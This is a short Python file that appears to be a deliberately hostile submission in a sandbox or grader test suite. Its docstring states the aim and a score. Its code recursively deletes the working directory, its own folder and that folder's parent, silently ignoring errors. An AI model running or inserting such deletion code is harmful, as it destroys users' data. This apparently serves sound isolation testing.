"""Delete the folder that it runs in, and its own source

Tries: removes all that it can reach, so that nothing can be imported, opened or listed again.
Must: what was imported goes on working; no other submission notices.
Deserves: 10
"""

import os
import shutil

from right import *

here = os.path.dirname(os.path.abspath(__file__))
for folder in (os.getcwd(), here, os.path.dirname(here)):
    shutil.rmtree(folder, ignore_errors=True)
